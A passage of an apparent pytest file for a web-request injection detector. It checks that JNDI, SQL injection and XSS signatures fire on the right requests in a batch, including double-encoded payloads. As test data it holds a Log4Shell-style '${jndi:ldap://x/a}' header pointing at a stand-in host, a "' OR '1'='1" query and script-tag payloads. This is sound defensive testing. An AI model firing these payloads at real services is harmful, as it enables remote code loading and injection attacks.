    from detectors.signatures import injection_alerts_batch
    from parsers.memo import SharedHeaders

    benign = SharedHeaders([(b"user-agent", b"curl/8"), (b"accept", b"*/*")])
    hostile = SharedHeaders([(b"user-agent", b"${jndi:ldap://x/a}")])
    targets = ["/api/v1/catalog", "/api/v1/users/7?q=" + quote("' OR '1'='1"), "/api/v1/catalog"]
    batch = [request(targets[n % 3], headers=hostile if n % 7 == 3 else benign) for n in range(30)]
    alone = [injection_alerts(signatures, transaction) for transaction in batch]
    assert injection_alerts_batch(signatures, batch).as_lists(len(batch)) == alone
    assert [n for n, found in enumerate(alone) if any(alert.rule == "jndi" for alert in found)] == [3, 10, 17, 24]
    assert sum(1 for found in alone if any(alert.rule == "sqli" for alert in found)) == 10
    quiet = [request("/api/v1/catalog", headers=benign) for _ in range(20)]
    assert injection_alerts_batch(signatures, quiet).in_row_order() == []


@pytest.mark.parametrize("position", [0, 1, 7, 15])
def test_an_attack_seen_only_once_decoded_is_found_wherever_its_target_sits(signatures, position) -> None:
    """The first pass scans the batch's targets as on the wire, plus the decoded fields of those that need
    decoding: an attack that only shows once decoded must be found at any position of the batch."""
    from detectors.signatures import injection_alerts_batch

    hidden = "/api/v1/users?q=" + quote(quote("<script>alert(1)</script>", safe=""), safe="")  # twice encoded
    batch = [request(f"/api/v1/users/{n}") for n in range(16)]
    batch[position] = request(hidden)
    found = injection_alerts_batch(signatures, batch).as_lists(len(batch))
    assert [n for n, alerts in enumerate(found) if alerts] == [position]
    assert {alert.rule for alert in found[position]} == {"xss"}


@pytest.mark.parametrize("position", [0, 5, 11])
@pytest.mark.parametrize("encoded", [False, True])
def test_an_attack_in_one_body_of_a_batch_is_found_whether_bodies_need_decoding_or_not(
    signatures, position, encoded
) -> None:
    """The first pass scans a batch's plain bodies (not forms) joined, as they are when none needs decoding, else
    each decoded: an attack in one body, as sent or encoded, is found at any position, beside form bodies."""
    from detectors.signatures import injection_alerts_batch

    def order(n: int) -> bytes:
        return json.dumps({"item": f"SKU-{n}", "qty": n % 3 + 1}).encode()

    attack = "<script>alert(1)</script>"
    payload = quote(attack, safe="") if encoded else attack
    batch = [request(f"/api/v1/orders/{n}", body=order(n), content_type="application/json", method="POST")
             for n in range(12)]  # fmt: skip
    batch[3] = request("/api/v1/login", body=b"user=ann&remember=1", content_type="application/x-www-form-urlencoded",
                       method="POST")  # fmt: skip
    batch[position] = request("/api/v1/orders", body=b'{"note": "' + payload.encode() + b'"}',
                              content_type="application/json", method="POST")  # fmt: skip
    found = injection_alerts_batch(signatures, batch).as_lists(len(batch))
    assert [n for n, alerts in enumerate(found) if alerts] == [position]
    assert {alert.rule for alert in found[position]} == {"xss"}
    assert found == [injection_alerts(signatures, transaction) for transaction in batch]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["/users/1", "/a%2e%2e/b", "/x+y", "", "/p$q"]),
                          st.text(alphabet="ab=&%+2e$#?\\;", max_size=16)), min_size=1, max_size=8))  # fmt: skip
def test_remembered_target_texts_are_the_target_fields_texts(paths_and_queries) -> None:
    """Targets are remembered whole, and their queries apart (one query under many paths): the texts scanned
    are those of `_target_fields`, the first time and from the memos."""
    from detectors.signatures import _target_fields, _target_texts

    memo: dict[str, list[bytes]] = {}
    for _ in range(2):
        for path, query in paths_and_queries:
            target = f"{path}?{query}" if query else path or "/"
            expected = [text for _, _, text in _target_fields(target, 64, 3)]
            assert _target_texts(memo, target, 64, 3) == expected


def test_every_expression_compiles_for_pythons_re_too(signatures) -> None:
    """Python's twin of each expression is compiled at its first use (a finding's evidence): each must compile."""
    assert all(signature.regex.pattern == signature.pattern for signature in signatures.signatures)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.integers(-5, 40), max_size=60))
def test_sorted_distinct_gives_what_np_unique_gives(values: list[int]) -> None:
    array = np.array(values, dtype=np.int64)
    assert sorted_distinct(array).tolist() == np.unique(array).tolist()


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=80))
def test_split_or_decode_marks_are_where_the_expression_matches(joined) -> None:
    assert _split_or_decode_marks(joined).tolist() == [match.start() for match in _SPLIT_OR_DECODE.finditer(joined)]
